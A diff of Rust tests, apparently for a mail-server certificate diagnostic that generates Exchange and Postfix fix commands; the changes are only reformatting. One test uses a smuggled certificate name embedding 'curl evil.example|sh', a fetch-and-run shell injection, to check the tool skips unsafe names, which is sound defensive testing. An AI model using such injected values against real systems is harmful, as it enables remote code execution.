@@ -209,7 +209,12 @@ fn an_unsent_issuer_is_said_to_be_an_intermediate_or_a_root_and_how_to_tell() {
             chain.fix
         );
         let text = chain.fix.text();
-        for needle in ["CA Issuers", "an intermediate", "a private root", "public CA"] {
+        for needle in [
+            "CA Issuers",
+            "an intermediate",
+            "a private root",
+            "public CA",
+        ] {
             assert!(text.contains(needle), "{kind}: {needle} missing:\n{text}");
         }
     }
@@ -220,7 +225,10 @@ fn an_unsent_issuer_is_said_to_be_an_intermediate_or_a_root_and_how_to_tell() {
 /// A server greeting as `greeting` with a trusted certificate for `names`, probed as `host`.
 fn greeting_case(host: &str, greeting: &str, names: &[&str], kind: &str) -> Observation {
     let w = world();
-    as_server(observed(host, greeting, chain_for(&w, names), &w.trust), kind)
+    as_server(
+        observed(host, greeting, chain_for(&w, names), &w.trust),
+        kind,
+    )
 }
 
 #[test]
@@ -232,7 +240,10 @@ fn the_greeting_fix_uses_the_name_senders_check_not_the_first_on_the_certificate
         ("postfix", format!("myhostname={HOST}")),
         ("unknown", format!("({HOST})")),
     ] {
-        let f = run(&greeting_case(HOST, private, &names, kind), &Policy::default());
+        let f = run(
+            &greeting_case(HOST, private, &names, kind),
+            &Policy::default(),
+        );
         let text = find(&f, Code::CertEhloNameMismatch).fix.text();
         assert!(text.contains(&expect), "{kind}: {expect} missing:\n{text}");
         assert!(!text.contains("autodiscover"), "{kind}:\n{text}");
@@ -261,7 +272,11 @@ fn adding_the_greeting_to_the_certificate_is_offered_only_for_a_public_name() {
     );
     let text = find(&f, Code::CertEhloNameMismatch).fix.text();
     assert!(text.contains(&format!("add {public}")), "{text}");
-    for private in ["exch01.corp.contoso.local", "relay.internal.test", "srv.lan"] {
+    for private in [
+        "exch01.corp.contoso.local",
+        "relay.internal.test",
+        "srv.lan",
+    ] {
         for kind in ["exchange", "postfix", "unknown"] {
             let f = run(
                 &greeting_case(HOST, private, &[HOST], kind),
@@ -276,7 +291,12 @@ fn adding_the_greeting_to_the_certificate_is_offered_only_for_a_public_name() {
 #[test]
 fn an_unsafe_first_name_on_the_certificate_does_not_hide_a_safe_one() {
     let evil = "x';curl evil.example|sh;'.test";
-    let obs = greeting_case("192.0.2.10", "exch01.corp.contoso.local", &[evil, HOST], "exchange");
+    let obs = greeting_case(
+        "192.0.2.10",
+        "exch01.corp.contoso.local",
+        &[evil, HOST],
+        "exchange",
+    );
     let f = run(&obs, &Policy::default());
     let text = find(&f, Code::CertEhloNameMismatch).fix.text();
     assert!(text.contains(&format!("-Fqdn {HOST}")), "{text}");
@@ -328,7 +348,10 @@ fn the_postfix_greeting_fix_names_the_service_and_what_the_override_changes() {
         cmds.contains(&"postconf -P 'smtp/inet/myhostname=mail.contoso.test'"),
         "{fix}"
     );
-    assert!(cmds.iter().any(|c| c.starts_with("postconf -P | grep")), "{fix}");
+    assert!(
+        cmds.iter().any(|c| c.starts_with("postconf -P | grep")),
+        "{fix}"
+    );
     let text = fix.text();
     assert!(!text.contains("stay as they are"), "{text}");
     assert!(text.contains("mydestination"), "{text}");
